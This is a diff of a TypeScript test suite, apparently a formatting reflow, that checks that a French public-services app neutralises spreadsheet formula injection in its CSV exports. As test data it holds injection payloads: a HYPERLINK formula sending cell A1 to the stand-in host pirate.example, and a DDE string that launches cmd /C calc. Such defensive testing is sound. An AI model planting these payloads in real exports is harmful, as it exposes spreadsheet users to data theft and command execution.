@@ -22,12 +22,22 @@ import { csvText, neutraliseCell } from '../src/kernel/export/csv.ts';
 const TITLE = '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")';
 const EDITION = '+Édition 2026 @SUM(A1:A9)';
 const VERBATIM = '=HYPERLINK("https://pirate.example";"Voir le justificatif")';
-const OTHER_HELP = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const OTHER_HELP = "@SUM(1+1)*cmd|' /C calc'!A0";
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 /** The CSV routes of the route table: whatever serves a `.csv` file or an export in a chosen format. */
-const CSV_ROUTES = new Set(['/catalogue/export.csv', '/catalogue/import/modele.csv', '/observatoire/editions/:id/export.:format', '/avis/exports/:id/fichier', '/audits-accessibilite/:id/export/:format', '/support/modeles/volumes.csv', '/support/modeles/lieux.csv',
-  '/temoignages/demarches/:id/temoignages.csv', '/temoignages/administrations/:id/temoignages.csv', '/temoignages/ministeres/:id/temoignages.csv']);
+const CSV_ROUTES = new Set([
+  '/catalogue/export.csv',
+  '/catalogue/import/modele.csv',
+  '/observatoire/editions/:id/export.:format',
+  '/avis/exports/:id/fichier',
+  '/audits-accessibilite/:id/export/:format',
+  '/support/modeles/volumes.csv',
+  '/support/modeles/lieux.csv',
+  '/temoignages/demarches/:id/temoignages.csv',
+  '/temoignages/administrations/:id/temoignages.csv',
+  '/temoignages/ministeres/:id/temoignages.csv',
+]);
 
 function parseCsv(body: Buffer | string, delimiter: ';' | ','): string[][] {
   return parse(body, { bom: true, delimiter, relax_column_count: true }) as string[][];
@@ -40,8 +50,17 @@ function assertNoFormula(rows: string[][], what: string): void {
 test('the writer: a quote before =, +, -, @, tab and CR; everything else, numbers included, unchanged', () => {
   for (const text of ['=1+1', '+33 1 23', '-2', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseCell(text), `'${text}`);
   for (const text of ['Démarche', ' =1', "'=déjà neutralisé", '1-2', '']) assert.equal(neutraliseCell(text), text);
-  const rows = parseCsv(csvText([['a', 'b', 'c'], ['=1+1', -3, 'x;y']]), ';');
-  assert.deepEqual(rows, [['a', 'b', 'c'], ["'=1+1", '-3', 'x;y']]);
+  const rows = parseCsv(
+    csvText([
+      ['a', 'b', 'c'],
+      ['=1+1', -3, 'x;y'],
+    ]),
+    ';',
+  );
+  assert.deepEqual(rows, [
+    ['a', 'b', 'c'],
+    ["'=1+1", '-3', 'x;y'],
+  ]);
 });
 
 for (const target of TEST_TARGETS) {
@@ -53,7 +72,10 @@ for (const target of TEST_TARGETS) {
     before(async () => {
       t = await createTestApp(target);
       f = await createFeedbackFixture(t.db, 'csv');
-      await t.db.query(`UPDATE procedures SET title = $2, description = '-1 point', in_scope = true WHERE id = $1`, [f.catalog.procedures[0], TITLE]);
+      await t.db.query(`UPDATE procedures SET title = $2, description = '-1 point', in_scope = true WHERE id = $1`, [
+        f.catalog.procedures[0],
+        TITLE,
+      ]);
       edition = await createDraft(t.db, { name: EDITION, period: 'T1', windowStart: '2026-01-01', windowEnd: '2026-03-31' }, null);
       await publishEdition(t.db, edition, null);
       const v = new Visitor(t.app, '10.9.0.1');
@@ -67,16 +89,32 @@ for (const target of TEST_TARGETS) {
 
     test('the route table has no CSV export this test does not cover', () => {
       const found = getRoutePatterns(t.app).filter((p) => /\.csv$|:format|\/fichier$/.test(p));
-      assert.deepEqual(found.filter((p) => !CSV_ROUTES.has(p)), []);
-      assert.deepEqual([...CSV_ROUTES].filter((p) => !found.includes(p)), [], 'a covered route disappeared');
+      assert.deepEqual(
+        found.filter((p) => !CSV_ROUTES.has(p)),
+        [],
+      );
+      assert.deepEqual(
+        [...CSV_ROUTES].filter((p) => !found.includes(p)),
+        [],
+        'a covered route disappeared',
+      );
     });
 
     test('published stories CSV (experiences): the story and the procedure title come out as text', async () => {
-      await t.db.query(`INSERT INTO experiences (procedure_id, administration_id, ministry_id, body, search, channels, feeling, solved, consent, status, published_at)
+      await t.db.query(
+        `INSERT INTO experiences (procedure_id, administration_id, ministry_id, body, search, channels, feeling, solved, consent, status, published_at)
         SELECT p.id, a.id, a.ministry_id, $2, $2, ARRAY['en_ligne'], 'neutre', false, true, 'published', now()
-          FROM procedures p JOIN administrations a ON a.id = p.administration_id WHERE p.id = $1`, [f.catalog.procedures[0], VERBATIM]);
-      const { rows } = await t.db.query(`SELECT administration_id, ministry_id FROM experiences WHERE procedure_id = $1`, [f.catalog.procedures[0]]);
-      for (const path of [`/temoignages/demarches/${f.catalog.procedures[0]}`, `/temoignages/administrations/${rows[0].administration_id}`, `/temoignages/ministeres/${rows[0].ministry_id}`]) {
+          FROM procedures p JOIN administrations a ON a.id = p.administration_id WHERE p.id = $1`,
+        [f.catalog.procedures[0], VERBATIM],
+      );
+      const { rows } = await t.db.query(`SELECT administration_id, ministry_id FROM experiences WHERE procedure_id = $1`, [
+        f.catalog.procedures[0],
+      ]);
+      for (const path of [
+        `/temoignages/demarches/${f.catalog.procedures[0]}`,
+        `/temoignages/administrations/${rows[0].administration_id}`,
+        `/temoignages/ministeres/${rows[0].ministry_id}`,
+      ]) {
         const res = await t.app.inject(`${path}/temoignages.csv`);
         assert.equal(res.statusCode, 200, path);
         const records = parse(res.rawPayload, { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
@@ -91,7 +129,10 @@ for (const target of TEST_TARGETS) {
       const res = await admin.get('/catalogue/export.csv');
       assert.equal(res.statusCode, 200);
       const rows = parseCsv(res.rawPayload, ';');
-      assert.ok(rows.some((r) => r.includes(`'${TITLE}`)), 'neutralised title present');
+      assert.ok(
+        rows.some((r) => r.includes(`'${TITLE}`)),
+        'neutralised title present',
+      );
       assertNoFormula(rows, 'catalogue');
       const model = await admin.get('/catalogue/import/modele.csv');
       assert.equal(model.statusCode, 200);
@@ -135,8 +176,20 @@ for (const target of TEST_TARGETS) {
       const auditId = await t.db.transaction(async (tx) => {
         const id = await createAudit(tx, { procedureId: f.catalog.procedures[0], type: 'fast', name: EDITION, actor: null });
         const pageId = await addPage(tx, { auditId: id, name: TITLE, url: 'https://exemple.gouv.fr/', kind: 'accueil', actor: null });
-        await tx.query(`UPDATE accessibility_results SET status = 'NC', note = $2 WHERE page_id = $1 AND criterion = '1.1'`, [pageId, OTHER_HELP]);
-        await addItem(tx, { auditId: id, pageId, criterion: '1.1', description: VERBATIM, impact: 'majeur', quickWin: false, recommendation: '-1 point', actor: null });
+        await tx.query(`UPDATE accessibility_results SET status = 'NC', note = $2 WHERE page_id = $1 AND criterion = '1.1'`, [
+          pageId,
+          OTHER_HELP,
+        ]);
+        await addItem(tx, {
+          auditId: id,
+          pageId,
+          criterion: '1.1',
+          description: VERBATIM,
+          impact: 'majeur',
+          quickWin: false,
+          recommendation: '-1 point',
+          actor: null,
+        });
         return id;
       });
       const res = await admin.get(`/audits-accessibilite/${auditId}/export/csv`);
